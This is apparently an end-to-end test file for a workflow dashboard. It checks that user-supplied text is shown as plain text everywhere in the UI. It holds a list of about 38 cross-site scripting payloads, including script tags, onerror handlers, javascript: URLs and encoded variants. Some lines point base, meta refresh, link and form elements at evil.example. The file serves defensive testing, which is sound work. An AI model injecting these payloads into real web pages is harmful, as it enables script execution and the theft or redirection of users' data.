// Texts that would do something if a page took them for markup, an address or code, in every place where text of somebody else's is
// shown: names, descriptions, tags, params, elements, outputs, errors, questions, schedules, files, and both streams of logs.
import assert from 'node:assert/strict';
import { click, evaluate, expectText, fill, press, type } from './actions.mjs';

/** Each calls `alert`, asks somebody else, or changes the page, where it is not mere text. */
const CORPUS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '"><svg/onload=alert(3)>',
  "'><img src=x onerror='alert(4)'>",
  '" autofocus onfocus="alert(5)" x="',
  "' onmouseover='alert(6)' x='",
  '</title><script>alert(7)</script>',
  '</textarea><script>alert(8)</script>',
  '</script><script>alert(9)</script>',
  '</style><script>alert(10)</script>',
  '--><script>alert(11)</script><!--',
  ']]><script>alert(12)</script>',
  '<iframe srcdoc="<script>parent.alert(13)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(14)</script>"></object>',
  '<embed src="javascript:alert(15)">',
  '<a href="javascript:alert(16)">x</a>',
  'javascript:alert(17)//http://x.example/',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxOCk8L3NjcmlwdD4=',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(19)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(20)>">',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(21)</script></svg>#x"></use></svg>',
  '<template><img src=x onerror=alert(22)></template>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<form action="//evil.example/"><button>x</button></form>',
  '<style>*{background:url(//evil.example/x)}</style>',
  '&lt;img src=x onerror=alert(28)&gt;',
  '&#60;img src=x onerror=alert(29)&#62;',
  '\\u003cimg src=x onerror=alert(30)\\u003e',
  '%3Cimg%20src=x%20onerror=alert(31)%3E',
  '+ADw-img src=x onerror=alert(32)+AD4-',
  '`${alert(33)}`',
  '</bdi><img src=x onerror=alert(34)>',
  '</code><img src=x onerror=alert(35)>`</code>`',
  '\u202egpj.<img src=x onerror=alert(36)>\u2066',
  '<img\u00a0src=x\u000aonerror=alert(37)>',
  '__proto__[constructor]=<img src=x onerror=alert(38)>',
];

// What a shell is told byte by byte means nothing to it.
const octal = (text) => [...new TextEncoder().encode(text)].map((byte) => `\\${byte.toString(8).padStart(3, '0')}`).join('');
const said = (text) => `printf '${octal(text)}\\012'`;
const yaml = JSON.stringify;
// A name has none of these.
const named = (text, place) => yaml(`n${place} ${text.replaceAll(/[/[\]{}*\\`'"\p{Cc}\u200b-\u206f]/gu, '')}`.slice(0, 100).trim());
const step = (text, place) => `
  - { name: ${named(text, place)}, description: ${yaml(text)}, run: ${yaml(`${said(text)}; ${said(text)} >&2; exit ${place % 2}`)}, outputs: { said: ${yaml('{{ stdout }}')} }, on_error: continue }`;

export const FLOWS = {
  'corpus.yaml': `
name: corpus
description: ${yaml(CORPUS.join(' '))}
tags: ${yaml(CORPUS)}
params: { ${CORPUS.map((text, place) => `p${place}: { default: ${yaml(text)}, description: ${yaml(text)} }`).join(', ')}, chosen: { choices: ${yaml(CORPUS)}, default: ${yaml(CORPUS[0])} } }
schedule: [${CORPUS.map((text, place) => `{ name: ${yaml(`s${place} ${text.replaceAll('\n', ' ')}`)}, cron: '0 5 1 1 *', zone: UTC }`).join(', ')}]
flow:${CORPUS.map(step).join('')}
  - { name: each, foreach: ${yaml(CORPUS)}, run: 'true' }
  - { name: ask, wait: { approval: ${yaml(CORPUS.join(' '))}, every: 50ms } }
`,
};

/** What of a page was made of text: elements that no template of ours has, what listens, and what leads elsewhere. */
const made = (page) => evaluate(page, () => {
  const wrong = [], said = (it) => it.outerHTML.slice(0, 120);
  for (const it of document.querySelectorAll('img, iframe, object, embed, base, math, template, style, script:not([type=module]), body link, body meta, a[ping]')) wrong.push(`element ${said(it)}`);
  for (const it of document.querySelectorAll('*')) {
    for (const { name, value } of it.attributes) {
      if (name.startsWith('on') || name === 'srcdoc' || name === 'autofocus') wrong.push(`attribute ${name} of ${said(it)}`);
      if (!/^(href|src|action|formaction|data|xlink:href)$/.test(name)) continue;
      const { origin, protocol } = new URL(value, location.href);
      if (origin !== location.origin && !(it.matches('.log-text a') && /^https?:$/.test(protocol))) wrong.push(`address ${value} of ${said(it)}`);
    }
  }
  return wrong;
});

export const tests = {
  async 'whatever somebody else writes is text, wherever it is shown'(world, page) {
    await page.addInitScript(() => addEventListener('securitypolicyviolation', (event) => console.error(`policy: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`)));
    const run = await world.submit('corpus');
    await world.asking(run);
    // All but the question have ended.
    await world.holds(`/runs/${run}/steps?limit=0`, ({ letters }) => /^[^R]*[PR][^RP]*$/.test(letters));
    const { steps } = await world.api('GET', `/runs/${run}/steps?limit=500`);
    assert.ok(steps.length >= 2 * CORPUS.length);
    const named = steps.filter((it) => /^n\d/.test(it.step)), { schedules } = await world.api('GET', '/schedules');
    const own = schedules.filter((it) => it.flow === 'corpus');
    assert.deepEqual([named.length, own.length], [CORPUS.length, CORPUS.length]);
    const at = encodeURIComponent, of = `/runs/${run}`;
    const paths = ['/', '/flows', '/flows/corpus', '/flows/corpus?tab=history', '/flows/corpus?tab=schedule', '/flows/corpus?tab=file', '/flows/corpus/run', '/runs', '/queues', '/schedules', '/approvals', '/system?tab=audit',
      of, `${of}?view=time`, `${of}?view=slots`, `${of}?view=list`, `${of}/log`, `${of}/steps/ask`];
    for (const [place, { step }] of named.entries()) {
      paths.push(`${of}/steps/${at(step)}`, `${of}/steps/${at(step)}/log`);
      if (place % 6 === 0) paths.push(`${of}?step=${at(step)}`, `/schedules/${at(own[place].name)}`, `/runs?tag=${at(CORPUS[place])}`, `${of}?view=list&q=${at(CORPUS[place])}`, `/runs?flow=${at(CORPUS[place])}`);
    }
    const wrong = [];
    for (const path of paths) {
      await world.goto(page, path);
      if (path.endsWith('/log') && path.includes('/steps/')) await page.waitForSelector('.log-row .log-text');
      wrong.push(...(await made(page)).map((it) => `${path}: ${it}`));
    }
    assert.deepEqual(wrong, []);
    // It is not left out either: the log has it as it was said.
    await world.goto(page, `${of}/steps/${at(named[1].step)}/log`);
    await page.waitForSelector('.log-row .log-text');
    await expectText(page, '.log-row .log-text', CORPUS[1]);
    // What scripts draw: the box, dialogs, messages.
    await press(page, 'Control+k');
    await type(page, '<');
    await page.waitForSelector('#found li');
    assert.deepEqual(await made(page), []);
    await press(page, 'Escape');
    await world.goto(page, '/approvals');
    await click(page, `#p-asking [data-answer=no][data-run="${run}"]`);
    await fill(page, 'dialog input[name=note]', CORPUS.join(' '));
    assert.deepEqual(await made(page), []);
    await click(page, 'dialog .primary');
    await world.until(run, ['failed', 'cancelled', 'succeeded']);
    await world.goto(page, of);
    await click(page, '#p-head >> text=Retry…');
    await page.waitForSelector('dialog li');
    assert.deepEqual(await made(page), []);
    await press(page, 'Escape');
    await world.goto(page, '/flows/corpus/run');
    await click(page, 'text=What would it do?');
    await page.waitForSelector('#planned li');
    assert.deepEqual(await made(page), []);
  },
};
